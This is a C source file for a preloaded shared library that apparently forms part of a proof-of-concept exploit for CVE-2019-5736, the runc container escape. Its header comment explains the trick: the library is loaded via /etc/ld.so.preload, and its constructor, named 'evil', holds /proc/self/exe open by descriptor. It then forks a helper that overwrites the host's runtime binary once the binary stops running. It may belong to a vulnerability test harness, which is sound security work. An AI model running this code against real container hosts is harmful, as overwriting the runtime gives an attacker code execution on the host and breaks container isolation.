/* SPDX-License-Identifier: GPL-2.0-or-later */
/*
 * CVE-2019-5736 itself: the image's /etc/ld.so.preload names this library and
 * its entry point is "#!/proc/self/exe", so the runtime executes its own
 * program inside the container with this constructor in it. The program is
 * kept by descriptor, and handed to one that overwrites it as soon as nobody
 * executes it any more.
 */
#include <fcntl.h>
#include <stdio.h>
#include <unistd.h>

__attribute__((constructor)) static void evil(void)
{
	char number[16];
	snprintf(number, sizeof(number), "%d", open("/proc/self/exe", O_PATH));
	if (fork() == 0)
		execl("/bin/probe", "probe", "overwrite", number, "/result", (char *)NULL);
	else
		execl("/bin/busybox", "sleep", "10", (char *)NULL);
	_exit(1);
}
